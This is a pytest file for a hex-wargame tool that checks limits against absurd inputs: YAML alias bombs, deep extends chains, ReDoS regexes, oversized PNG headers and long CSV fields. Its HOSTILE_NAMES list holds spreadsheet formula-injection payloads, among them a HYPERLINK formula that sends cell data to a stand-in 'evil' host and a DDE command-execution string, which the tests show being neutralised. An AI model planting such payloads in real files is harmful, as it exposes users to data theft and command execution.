"""Every limit of model/limits.py: an absurd input generated here (never stored) is refused
with a located message, fast. The ``FAST`` bound is a hang guard, not a benchmark (the
timings are in docs/reliability.md "Limits")."""

from __future__ import annotations

import shutil
import time
from pathlib import Path

import numpy as np
import pytest

from conftest import FIXTURES
from hexproof.cli import main
from model import limits
from model.bundle import load_bundle, resolve_variant
from model.calibration import CalibrationError, solve_affine
from model.formats.counter_table import export_csv, import_csv
from model.counters import Counter
from model.hexes import Hex
from model.safe_regex import PatternError, compile_data_pattern
from model.formats.yamlio import YamlError, parse_yaml

MINI = FIXTURES / "bundles" / "mini"
FAST = 5.0  # seconds: generous hang guard on a shared 2-core machine


@pytest.fixture()
def bundle(tmp_path: Path) -> Path:
    root = tmp_path / "b"
    shutil.copytree(MINI, root)
    return root


def timed_load(root: Path):
    t = time.perf_counter()
    result = load_bundle(root)
    elapsed = time.perf_counter() - t
    assert elapsed < FAST, f"load took {elapsed:.1f} s"
    return result


def find(result, substring: str):
    hits = [d for d in result.diagnostics if substring in d.message]
    assert hits, [d.render() for d in result.diagnostics]
    return hits[0]


# --- YAML: aliases and setup entries ----------------------------------------------------


def test_alias_count_is_capped_fast() -> None:
    n = 400_000  # the audit's case: 44 s before
    doc = "x: &a {unit: x1, hex: '0402'}\nsetup:\n" + "- *a\n" * n
    t = time.perf_counter()
    with pytest.raises(YamlError) as exc:
        parse_yaml(doc, "s.yaml")
    assert time.perf_counter() - t < FAST
    d = exc.value.diagnostic
    assert d.code == "LOAD-YAML-003" and f"{limits.MAX_ALIASES:,} aliases" in d.message
    assert (d.location.file, d.location.line, d.location.column) == ("s.yaml", 3 + limits.MAX_ALIASES, 3)


def test_alias_expansion_is_capped() -> None:
    big = "[" + ", ".join(["x"] * 100) + "]"
    doc = f"a: &a {big}\nb: [" + ", ".join(["*a"] * 3_000) + "]\n"  # 300,000 added nodes
    with pytest.raises(YamlError) as exc:
        parse_yaml(doc, "s.yaml")
    assert f"more than {limits.MAX_ALIAS_NODES:,}" in exc.value.diagnostic.message


def test_aliases_within_the_limits_load() -> None:
    doc = "a: &a {k: v}\nb: [" + ", ".join(["*a"] * 1_000) + "]\n"
    data, _, errors = parse_yaml(doc, "s.yaml")
    assert len(data["b"]) == 1_000 and data["b"][0] == {"k": "v"} and errors == []


def test_setup_entries_are_capped_fast(bundle: Path) -> None:
    n = 100_000  # 31-55 s before
    lines = ["schema_version: 1", "id: base", "name: Base", "turns: {first: 1, last: 5}", "setup:"]
    lines += [f"- {{unit: u{i}, hex: '0402'}}" for i in range(n)]
    (bundle / "scenarios" / "base.yaml").write_text("\n".join(lines) + "\n")
    result = timed_load(bundle)
    d = find(result, f"more than {limits.MAX_SETUP_ENTRIES:,} setup entries")
    assert d.location.file.endswith("scenarios/base.yaml")
    assert (d.location.line, d.location.column) == (6 + limits.MAX_SETUP_ENTRIES, 3)  # the entry after "- "


def test_setup_add_is_capped(bundle: Path) -> None:
    lines = ["schema_version: 1", "id: variant", "name: V", "extends: base", "overrides:", "  setup_add:"]
    lines += [f"  - {{unit: u{i}, hex: '0402'}}" for i in range(limits.MAX_SETUP_ENTRIES + 1)]
    (bundle / "scenarios" / "variant.yaml").write_text("\n".join(lines) + "\n")
    d = find(timed_load(bundle), "setup_add entries")
    assert d.location.file.endswith("variant.yaml") and d.location.line == 7 + limits.MAX_SETUP_ENTRIES


# --- extends chains ----------------------------------------------------------------------


def _chain(bundle: Path, n: int) -> None:
    names = []
    for i in range(n):
        base = "base" if i == 0 else f"v{i - 1}"
        (bundle / "scenarios" / f"v{i}.yaml").write_text(f"id: v{i}\nname: V{i}\nextends: {base}\n")
        names.append(f"scenarios/v{i}.yaml")
    game = bundle / "game.yaml"
    game.write_text(game.read_text().replace("scenarios/variant.yaml", ", ".join(names)))


def test_extends_chain_at_the_limit_resolves(bundle: Path) -> None:
    _chain(bundle, limits.MAX_EXTENDS_DEPTH)
    result = timed_load(bundle)
    assert result.ok, [d.render() for d in result.diagnostics]
    top = result.bundle.resolved(f"v{limits.MAX_EXTENDS_DEPTH - 1}")
    assert [e.unit for e in top.setup] == ["x1"]


def test_extends_chain_1000_deep_is_refused_fast(bundle: Path) -> None:
    _chain(bundle, 1_000)  # 442 s and a RecursionError before
    result = timed_load(bundle)
    d = find(result, f"the extends chain is longer than {limits.MAX_EXTENDS_DEPTH}")
    assert d.code == "LOAD-REF-003" and d.location.line == 3  # the `extends:` key
    assert d.location.file.endswith(f"v{limits.MAX_EXTENDS_DEPTH}.yaml")


def test_extends_cycle_is_named_in_full(bundle: Path) -> None:
    for a, b in (("a", "b"), ("b", "c"), ("c", "a")):
        (bundle / "scenarios" / f"{a}.yaml").write_text(f"id: {a}\nname: {a}\nextends: {b}\n")
    game = bundle / "game.yaml"
    game.write_text(game.read_text().replace("scenarios/variant.yaml", "scenarios/a.yaml, scenarios/b.yaml, scenarios/c.yaml"))
    result = timed_load(bundle)
    assert "scenario 'a' extends itself through a → b → c → a" in [d.message for d in result.diagnostics]
    with pytest.raises(ValueError, match="extends itself through b → c → a → b"):
        resolve_variant(result.bundle.scenarios, "b")


# --- maps and bundle size ----------------------------------------------------------------


def _map_size(bundle: Path, cols: int, rows: int) -> None:
    import re

    path = bundle / "maps" / "mini.yaml"
    text = path.read_text().replace("cols: 6", f"cols: {cols}").replace("rows: 4", f"rows: {rows}")
    terrain = "\n".join("    " + ("." * cols) for _ in range(rows))
    text = re.sub(r"rows: \|-\n(    .*\n)+", lambda m: "rows: |-\n" + terrain + "\n", text)
    path.write_text(text)


def test_map_over_the_hex_limit_is_refused(bundle: Path) -> None:
    _map_size(bundle, 2001, 2000)
    result = timed_load(bundle)
    d = find(result, f"the limit is {limits.MAX_MAP_HEXES:,} per map")
    assert d.location.file.endswith("maps/mini.yaml") and d.location.path.endswith("terrain.rows") and d.location.line
    assert "4,002,000 hexes" in d.message and result.bundle is None


def test_700_by_700_map_loads(bundle: Path) -> None:
    _map_size(bundle, 700, 700)  # 490,000 hexes
    result = timed_load(bundle)
    assert result.bundle is not None and len(result.bundle.default_map.hexes()) == 490_000
    assert not [d for d in result.diagnostics if "the limit is" in d.message]


def test_bundle_total_size_is_capped(bundle: Path) -> None:
    game = bundle / "game.yaml"
    names = [f"scenarios/big{i}.yaml" for i in range(5)]
    for rel in names:  # sparse: 5 × 60 MiB declared, nothing written or read
        with (bundle / rel).open("wb") as fh:
            fh.truncate(60 * 1024 * 1024)
    game.write_text(game.read_text().replace("scenarios/variant.yaml", ", ".join(names)))
    result = timed_load(bundle)
    d = find(result, f"the limit is {limits.MAX_BUNDLE_BYTES:,}")
    assert result.bundle is None and d.location.file.endswith("game.yaml") and d.location.line == 7
    assert "big4.yaml" in d.message


# --- counters CSV ------------------------------------------------------------------------


def _counter(i: int, name: str) -> Counter:
    return Counter(id=f"c{i}", name=name, side="allied", category="inf")


HOSTILE_NAMES = ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(1)", "+1+1", "=cmd|' /C calc'!A0", "-2+3",
                 "\tTab", "\rCR", "'quoted", "''two", "-1", "+7", "-0.5", "plain"]


def test_formula_cells_are_neutralised_and_round_trip() -> None:
    counters = [_counter(i, n) for i, n in enumerate(HOSTILE_NAMES)]
    text = export_csv(counters)
    import csv
    import io

    names = [row[1] for row in list(csv.reader(io.StringIO(text)))[1:]]
    plain_numbers = {"-1", "+7", "-0.5"}  # a number is not a formula: written as it is
    for cell in names:
        assert cell in plain_numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert names[0] == "'" + HOSTILE_NAMES[0] and names[7] == "''quoted"
    back = import_csv(text)
    assert back.rejected == [] and [c.name for c in back.counters] == HOSTILE_NAMES


def test_csv_field_over_the_csv_module_limit_is_a_located_rejection() -> None:
    text = "id,name,side,category\na," + "x" * 140_000 + ",allied,inf\n"
    result = import_csv(text)  # was an internal error (csv.Error: field larger than field limit)
    assert result.counters == [] and result.rejected[0].row == 2


def test_csv_field_over_our_limit_names_its_cell() -> None:
    text = "id,name,side,category\na," + "x" * (limits.MAX_CSV_FIELD + 1) + ",allied,inf\n"
    rej = import_csv(text).rejected
    assert (rej[0].row, rej[0].column) == (2, 2) and f"the limit is {limits.MAX_CSV_FIELD:,}" in rej[0].reason


def test_csv_rows_are_capped_fast() -> None:
    n = 50_000  # 35 s before (import + write)
    text = "id,name,side,category\n" + "".join(f"c{i},U{i},allied,inf\n" for i in range(n))
    t = time.perf_counter()
    result = import_csv(text)
    assert time.perf_counter() - t < FAST
    assert result.rejected[-1].row == limits.MAX_CSV_ROWS + 2
    assert f"the limit is {limits.MAX_CSV_ROWS:,}" in result.rejected[-1].reason


def test_import_with_a_rejected_row_writes_nothing(bundle: Path, capsys) -> None:
    counters = bundle / "counters.yaml"
    before = counters.read_bytes()
    csv_path = bundle.parent / "c.csv"
    csv_path.write_text("id,name,side,category\nn1,New 1,allied,inf\nn2,,allied,inf\n")
    assert main(["counters", "import", str(bundle), str(csv_path)]) == 1
    err = capsys.readouterr().err
    assert f"{csv_path}:3:2: rejected: missing name" in err and "nothing written" in err
    assert counters.read_bytes() == before


def test_import_round_trips_hostile_names_through_the_bundle(bundle: Path) -> None:
    csv_path = bundle.parent / "c.csv"
    good = [Counter(id=f"h{i}", name=n, side="allied", category="inf") for i, n in enumerate(HOSTILE_NAMES)]
    csv_path.write_text(export_csv(good))
    assert main(["counters", "import", str(bundle), str(csv_path)]) == 0
    loaded = load_bundle(bundle).bundle
    assert [c.name for c in loaded.counters] == HOSTILE_NAMES  # exact, leading tab and CR included


# --- calibration -------------------------------------------------------------------------


def test_two_labels_at_one_pixel_is_refused() -> None:
    with pytest.raises(CalibrationError, match="0101 and 0202 are at the same pixel") as exc:
        solve_affine(np.array([[10.0, 10.0], [10.0, 10.0]]), np.array([[0.0, 0.0], [1.5, 0.9]]),
                     hex_size=1.0, labels=["0101", "0202"])
    assert exc.value.point == 1


@pytest.mark.parametrize("value", [1e300, float("inf"), float("nan")])
def test_non_finite_or_absurd_pixels_are_refused(value: float) -> None:
    with pytest.raises(CalibrationError, match="not a finite number"):
        solve_affine(np.array([[0.0, 0.0], [value, 5.0]]), np.array([[0.0, 0.0], [1.5, 0.9]]), hex_size=1.0)


def test_absurd_scale_is_refused() -> None:
    # 1.7 map units apart at 100,000 px: ~58,000 px per hex
    with pytest.raises(CalibrationError, match="image pixels in one hex"):
        solve_affine(np.array([[0.0, 0.0], [100_000.0, 0.0]]), np.array([[0.0, 0.0], [1.5, 0.9]]), hex_size=1.0)


def test_collinear_points_are_refused() -> None:
    with pytest.raises(CalibrationError, match="one line"):
        solve_affine(np.array([[0.0, 0.0], [10.0, 10.0], [20.0, 20.0]]),
                     np.array([[0.0, 0.0], [1.5, 0.9], [3.0, 0.0]]), hex_size=1.0)


def test_calibration_pixel_in_a_file_is_refused_at_its_key(bundle: Path) -> None:
    path = bundle / "maps" / "mini.yaml"
    path.write_text(path.read_text() + "background:\n  image: scan.png\n  calibration:\n"
                    "  - {label: '0101', x: 1e300, y: 0}\n  - {label: '0202', x: 50, y: 50}\n")
    result = timed_load(bundle)
    d = find(result, "is not a finite number")
    assert d.location.file.endswith("maps/mini.yaml") and d.location.line is not None


def test_proof_art_sampling_does_not_grow_with_scale() -> None:
    from model.formats.mapart import sample_centres

    rgb = np.zeros((4000, 4000, 3), dtype=np.uint8)
    to_image = np.array([[2000.0, 0.0, 2000.0], [0.0, 2000.0, 2000.0]])  # 2000 px per hex (×20 a scan)
    t = time.perf_counter()
    colours, inside = sample_centres(rgb, [Hex(0, 0)] * 200, to_image, "flat")
    assert time.perf_counter() - t < FAST and inside.all()


# --- regexes from data -------------------------------------------------------------------


def test_redos_pattern_is_refused_not_hung() -> None:
    pattern = compile_data_pattern(r"^(\d|\d\d)+\.\d{3}$", "system.yaml:368:23 (params.hex_label_pattern)")
    t = time.perf_counter()
    with pytest.raises(PatternError, match="catastrophic backtracking") as exc:
        pattern.match("1" * 40 + ".0001")
    with pytest.raises(PatternError):  # refused at once afterwards
        pattern.match("1" * 40 + ".0001")
    assert time.perf_counter() - t < FAST
    assert exc.value.where == "system.yaml:368:23 (params.hex_label_pattern)"


def test_audit_pattern_on_31_digits_is_fast() -> None:
    pattern = compile_data_pattern(r"^(\d+)+$", "w")
    t = time.perf_counter()
    assert pattern.match("1" * 31) and not pattern.match("1" * 31 + ".000")
    assert time.perf_counter() - t < FAST


def test_bad_or_long_pattern_is_refused() -> None:
    with pytest.raises(PatternError, match="not a valid regular expression"):
        compile_data_pattern("(", "w")
    with pytest.raises(PatternError, match="the limit is"):
        compile_data_pattern("a" * (limits.MAX_REGEX_LENGTH + 1), "w")


def test_validate_refuses_a_redos_hex_label_pattern(tmp_path: Path, capsys) -> None:
    repo = FIXTURES.parent.parent
    root = tmp_path / "ub"
    shutil.copytree(repo / "scenarios" / "utah-beach", root)
    system = (repo / "resources" / "systems" / "gts-utah.yaml").read_text()
    assert "value: '^\\d{2,3}\\.\\d{3}$'" in system
    (root / "gts-utah.yaml").write_text(system.replace("value: '^\\d{2,3}\\.\\d{3}$'", "value: '^(\\d|\\d\\d)+\\.\\d{3}$'"))
    game = root / "game.yaml"
    game.write_text(game.read_text().replace("system: gts-utah\n", "system: gts-utah.yaml\n"))
    scen = next(p for p in sorted((root / "scenarios").glob("*.yaml")) if "hex: '" in p.read_text())
    text = scen.read_text()
    first = text.index("hex: '") + len("hex: '")
    scen.write_text(text[:first] + "1" * 40 + ".0001" + text[text.index("'", first):])
    t = time.perf_counter()
    main(["validate", str(root)])
    assert time.perf_counter() - t < FAST * 4
    out = capsys.readouterr().out
    line = next(ln for ln in out.splitlines() if "hex_label_pattern refused" in ln)
    assert "gts-utah.yaml:" in line and "GTS-HEX-001" in line


# --- images ------------------------------------------------------------------------------


def _png_header(width: int, height: int) -> bytes:
    """A PNG whose header declares width × height (no pixel data: never decodable)."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def test_image_over_the_pixel_limit_is_refused_from_its_header(tmp_path: Path, qapp) -> None:
    from editor.export.image_io import load_rgb

    path = tmp_path / "huge.png"
    path.write_bytes(_png_header(100_000, 100_000))  # 10 gigapixels declared in 57 bytes
    t = time.perf_counter()
    with pytest.raises(OSError, match=f"the limit is {limits.MAX_IMAGE_PIXELS:,}"):
        load_rgb(path)
    assert time.perf_counter() - t < FAST


def test_image_within_the_limit_passes_the_header_check(tmp_path: Path, qapp) -> None:
    from editor.image_limits import check_image_size

    path = tmp_path / "ok.png"
    path.write_bytes(_png_header(14_000, 14_000))  # 196 MP: a big 300 dpi scan
    assert check_image_size(path) == (14_000, 14_000)
